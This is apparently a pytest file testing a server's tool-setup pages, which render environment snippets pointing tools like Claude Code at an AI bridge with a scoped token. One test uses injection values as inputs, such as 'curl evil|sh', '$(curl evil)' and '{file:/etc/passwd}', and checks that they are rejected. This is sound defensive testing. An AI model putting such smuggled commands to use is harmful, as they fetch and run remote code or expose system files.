"""Setting a tool up, as somebody new does it."""

import re
from urllib.parse import urlencode

import aiohttp
import pytest

from coderai.setups import SETUPS
from tests.web.conftest import Browsing
from tests.web.living import Living
from tests.web.reading import look, send


@pytest.mark.parametrize("setup", SETUPS, ids=lambda setup: setup.name)
async def test_every_tool_has_a_page(browse: Browsing, setup):
    page = await look(browse("mia"), f"/connect/{setup.name}")
    assert page.status == 200
    assert "What to paste" in page.text or "No provider fits" in page.text


async def test_the_list_names_them_all(browse: Browsing):
    page = (await look(browse("mia"), "/connect")).text
    assert all(f'href="/connect/{setup.name}"' in page for setup in SETUPS)


async def test_a_tool_is_pointed_at_this_server(house: Living, browse: Browsing):
    page = (await look(browse("mia"), "/connect/claude-code")).text
    assert f"ANTHROPIC_BASE_URL=&#34;{house.url}/api/v2/aibridge/anthropic&#34;" in page
    assert "ANTHROPIC_AUTH_TOKEN=&#34;$CODER_TOKEN&#34;" in page


async def test_with_ones_own_key(browse: Browsing):
    page = (await look(browse("mia"), "/connect/claude-code?byok=true&model=claude-opus-4-6")).text
    assert "X-Coder-AI-Governance-Token: $CODER_TOKEN" in page
    assert "ANTHROPIC_MODEL=&#34;claude-opus-4-6&#34;" in page


async def test_the_made_token_calls_models_and_does_nothing_else(house: Living, browse: Browsing):
    page = await send(browse("mia"), "/connect/claude-code")
    assert page.status == 201
    token = re.search(r"export CODER_TOKEN=([A-Za-z0-9-]+)<", page.text).group(1)
    house.tokens["made for a tool"] = token
    await house.exchange("Through the snippet", "made for a tool")
    async with (
        aiohttp.ClientSession() as http,
        http.get(f"{house.url}/api/v2/users/me", headers={"Coder-Session-Token": token}) as answer,
    ):
        assert answer.status == 403


async def test_a_file_that_knows_no_variables_gets_the_token(browse: Browsing):
    page = (await send(browse("mia"), "/connect/mux")).text
    token = re.search(r"export CODER_TOKEN=([A-Za-z0-9-]+)<", page).group(1)
    assert f"&#34;apiKey&#34;: &#34;{token}&#34;" in page


async def test_an_unknown_tool_is_told(browse: Browsing):
    assert (await look(browse("mia"), "/connect/no-such-tool")).status == 404


@pytest.mark.parametrize("model", ["x\ncurl evil|sh", "$(curl evil)", "{file:/etc/passwd}", "x" * 201, "!!", "a b"])
async def test_a_link_puts_nothing_but_a_model_into_what_is_pasted(browse: Browsing, model):
    page = await look(browse("mia"), f"/connect/claude-code?{urlencode({'model': model})}")
    assert page.status == 400
    assert 'role="alert" id="odd"' in page.text
    assert "ANTHROPIC_MODEL" not in page.text


async def test_a_model_may_have_brackets(browse: Browsing):
    page = await look(browse("mia"), "/connect/claude-code?model=us.anthropic.claude-opus-4-6%5B1m%5D")
    assert "us.anthropic.claude-opus-4-6[1m]&#34;" in page.text
